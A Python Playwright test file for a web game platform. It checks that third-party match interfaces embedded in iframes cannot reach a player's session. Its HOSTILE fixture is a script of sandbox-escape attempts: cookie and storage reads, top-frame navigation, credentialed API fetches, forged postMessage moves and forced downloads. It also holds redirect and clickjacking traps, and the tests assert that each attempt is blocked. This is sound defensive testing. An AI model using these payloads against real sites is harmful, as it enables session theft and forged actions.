"""Matches in other people's interfaces: they are played there, and a hostile one reaches nothing but its own move."""

import asyncio
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Frame, Page, expect

from tests.web.playing import ask
from tests.web.strangers import StrangersSite
from tests.web.visitors import Visitors

PASSWORD = "correct horse battery staple"
REPORT = """
const report = (name, said) =>
  fetch(`/report/${name}?said=${encodeURIComponent(said)}`, {mode: "no-cors", keepalive: true}).catch(() => {});
const attempt = (name, act) => { try { report(name, `did ${act()}`) } catch (error) { report(name, `no ${error.name}`) } };
const given = Object.fromEntries(new URLSearchParams(location.search));
"""
HOSTILE = """<!doctype html><title>x</title><form id=f target=_top action="/gone"></form><iframe id=back></iframe>
<script>%(report)s
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent", () => parent.document.title);
attempt("top", () => top.document.title);
attempt("above", () => top.frames[0].document.title);
attempt("popup", () => String(window.open("/popup")));
attempt("alert", () => String(confirm("?")));
try { top.location = "/gone" } catch (error) { report("navigated", error.name) }
document.getElementById("f").submit();
const link = document.createElement("a");
link.href = "data:application/octet-stream,x"; link.download = "x.exe"; document.body.append(link); link.click();
for (const path of ["/api/v1/sessions/current", "/api/v1/matches/" + "%(match)s"])
  fetch("%(site)s" + path, {credentials: "include"})
    .then(async (answer) => report("api", "did " + await answer.text()), () => report("api", "no"));
top.postMessage("arbitre:returned", "*");
top.postMessage({type: "move", move: "1"}, "*");
for (const path of ["/settings/account", "/interfaces/frames/model?match=%(match)s&seat=0&receipt=aaaaaaaaaaaaaaaaaaaa"]) {
  const frame = document.createElement("iframe"); frame.src = "%(site)s" + path; document.body.append(frame);
}
setTimeout(() => report("end", Object.keys(given).join()), 300);
</script>"""


@pytest.fixture
def stranger() -> Iterator[StrangersSite]:
    site = StrangersSite()
    yield site
    site.close()


async def arrive_registered(visitors: Visitors, name: str, **traits: Any) -> Page:
    page = await visitors.arrive(is_first=True, **traits)
    await ask(page, "/accounts", {"name": name, "password": PASSWORD})
    return page


async def open_against_bot(page: Page, game: str = "tictactoe") -> str:
    table = {"game": game, "seat": 0, "bots": [{"bot": "random"}]}
    opened = await (await ask(page, "/tables", table)).json()
    match: str = opened["id"]
    return match


async def register(page: Page, address: str, **more: Any) -> str:
    new = {"name": "Etranger", "address": address, "games": ["tictactoe", "seafight"], **more}
    made = await (await ask(page, "/interfaces", new)).json()
    identifier: str = made["id"]
    return identifier


async def show_in(page: Page, match: str, interface: str) -> None:
    """As somebody does who chooses it beside the match."""
    await page.goto(f"/match/{match}")
    await page.get_by_role("button", name="Changer d’affichage").click()
    await page.get_by_role("combobox", name="Affichage").select_option(interface)


async def moves(page: Page, match: str) -> list[str]:
    events = (await (await page.request.get(f"/api/v1/matches/{match}")).json())["events"]
    return [event["text"] for event in events if event["kind"] == "moved" and event["seat"] == 0]


async def inner(page: Page, address: str) -> Frame:
    """The frame that shows this address now."""
    await page.wait_for_function("document.querySelectorAll('iframe').length === 1")
    async with asyncio.timeout(30):
        while True:
            for frame in page.frames:
                if address in frame.url and frame.url.startswith("http"):
                    return frame
            await page.wait_for_timeout(20)


async def test_a_match_is_played_in_the_model_interface(visitors: Visitors) -> None:
    page = await arrive_registered(visitors, "Modeler")
    match = await open_against_bot(page)
    cookies: list[str | None] = []
    await show_in(page, match, "model")

    async def note(request: Any) -> None:
        if urlsplit(request.url).path.startswith("/interfaces/returns/"):
            cookies.append((await request.all_headers()).get("cookie"))

    page.on("request", note)
    board = page.frame_locator("iframe:not(.waits)").frame_locator("iframe")
    await expect(board.locator("#name1")).to_have_text("Modeler")
    await board.get_by_role("button", name="5", exact=True).click()
    await expect(board.locator("#count")).to_have_text("2")
    await expect(board.get_by_role("button", name="5 ×")).to_be_visible()
    assert await moves(page, match) == ["5"]
    assert cookies == [None], "the session's cookie stays out of callbacks"


@pytest.mark.nightly
async def test_another_interface_goes_on_where_the_first_has_stopped(visitors: Visitors) -> None:
    """Our own boards are an interface like any other."""
    page = await arrive_registered(visitors, "Switcher")
    match = await open_against_bot(page)
    await show_in(page, match, "model")
    board = page.frame_locator("iframe:not(.waits)").frame_locator("iframe")
    await board.get_by_role("button", name="5", exact=True).click()
    await expect(board.locator("#count")).to_have_text("2")
    await page.get_by_role("combobox", name="Affichage").select_option("board")
    await board.locator("[data-board] button:enabled").first.click()
    await expect(board.locator(".count")).to_have_text("4")
    assert len(await moves(page, match)) == 2


async def test_a_hostile_interface_reaches_nothing(visitors: Visitors, stranger: StrangersSite) -> None:
    page = await arrive_registered(visitors, "Victim")
    match = await open_against_bot(page)
    stranger.pages["/board"] = HOSTILE % {"report": REPORT, "match": match, "site": visitors.site.url}
    dialogs: list[str] = []
    downloads: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.on("download", lambda download: downloads.append(download.url))
    await show_in(page, match, await register(page, f"{stranger.url}/board"))
    names = ("cookie", "storage", "parent", "top", "above", "popup", "alert", "end")
    async with asyncio.timeout(30):  # until its script has run; reports may overtake each other
        while not all(map(stranger.reported, names)) or len(stranger.reported("api")) < 2:
            await page.wait_for_timeout(20)
    assert (stranger.reported("cookie"), stranger.reported("storage")) == (["did "], ["did 0"]), (
        "only its own"
    )
    for name in ("parent", "top", "above"):
        assert stranger.reported(name) == ["no SecurityError"], name
    assert stranger.reported("popup") == ["did null"]
    assert stranger.reported("alert") == ["did false"]
    assert stranger.reported("api") == ["no", "no"]
    assert page.url.endswith(f"/match/{match}")
    assert len(page.context.pages) == 1
    assert (dialogs, downloads) == ([], [])
    assert await moves(page, match) == []
    shown = [seen for seen in stranger.seen if seen.path == "/board"]
    assert not any("cookie" in map(str.lower, seen.headers) for seen in shown)
    assert not any("referer" in map(str.lower, seen.headers) for seen in shown), "it learns of no match"
    assert all(
        frame.url == "" or "chrome-error" in frame.url or "settings" not in frame.url for frame in page.frames
    )
    visitors.complaints.clear()  # what the browser has denied it


async def test_a_value_reaches_its_own_seat_once(visitors: Visitors, stranger: StrangersSite) -> None:
    """The interface plays by itself, twice, and once more in the name of the same address."""
    page = await arrive_registered(visitors, "Once")
    match = await open_against_bot(page)
    stranger.pages["/board"] = (
        "<!doctype html><iframe id=a></iframe><iframe id=b></iframe><script>"
        + REPORT
        + """
        report("given", location.search);
        if (given.URLReturn && given.Count === "0") {
          const [a, b] = ["a", "b"].map((id) => document.getElementById(id));
          a.onload = () => { a.onload = null; b.src = given.URLReturn + "?ReturnValue=1" };
          a.src = given.URLReturn + "?ReturnValue=9";
        }
        </script>"""
    )
    await show_in(page, match, await register(page, f"{stranger.url}/board"))
    await inner(page, "Count=2")
    assert await moves(page, match) == ["9"]
    first = re.search(r"URLReturn=([^&]*)", stranger.reported("given")[0])
    assert first is not None
    again = await page.request.get(f"{first[1]}?ReturnValue=2")
    assert again.status == 409
    assert await moves(page, match) == ["9"]


async def test_an_interface_cannot_put_our_pages_in_its_place(
    visitors: Visitors, stranger: StrangersSite
) -> None:
    """It goes to our own origin itself, where its sandbox would be around a page of ours."""
    page = await arrive_registered(visitors, "Wanderer")
    match = await open_against_bot(page)
    for number, path in enumerate(("/settings/account", "/interfaces/board?Set=TicTacToe", "/api/v1/me")):
        stranger.pages[f"/go{number}"] = f"<script>location.href = '{visitors.site.url}{path}'</script>"
        interface = await register(page, f"{stranger.url}/go{number}", name=f"Go{number}")
        if number == 0:
            await show_in(page, match, interface)
        else:
            await page.reload()
            await page.get_by_role("combobox", name="Affichage").select_option(interface)
        async with asyncio.timeout(30):
            while not any("chrome-error" in frame.url for frame in page.frames):
                await page.wait_for_timeout(20)
        assert not any(path in frame.url for frame in page.frames)
        assert page.url.endswith(f"/match/{match}")
    visitors.complaints.clear()


async def test_nobody_puts_our_pages_in_a_frame(visitors: Visitors, stranger: StrangersSite) -> None:
    """So that no click is stolen. Whoever is shown them is logged in."""
    page = await arrive_registered(visitors, "Clicker")
    match = await open_against_bot(page)
    paths = [
        "/",
        "/settings/account",
        f"/match/{match}",
        f"/interfaces/frames/model?match={match}&receipt={'a' * 20}",
        f"/interfaces/referees/{match}",
        "/api/docs",
    ]
    frames = "".join(f'<iframe src="{visitors.site.url}{path}"></iframe>' for path in paths)
    stranger.pages["/trap"] = f"<!doctype html>{frames}"
    await page.goto(f"{stranger.url}/trap")
    for frame in page.frames[1:]:
        text = await frame.evaluate("document.body?.innerText ?? ''")
        assert "chrome-error" in frame.url or "not_seated" in text or "forbidden" in text, frame.url
    visitors.complaints.clear()
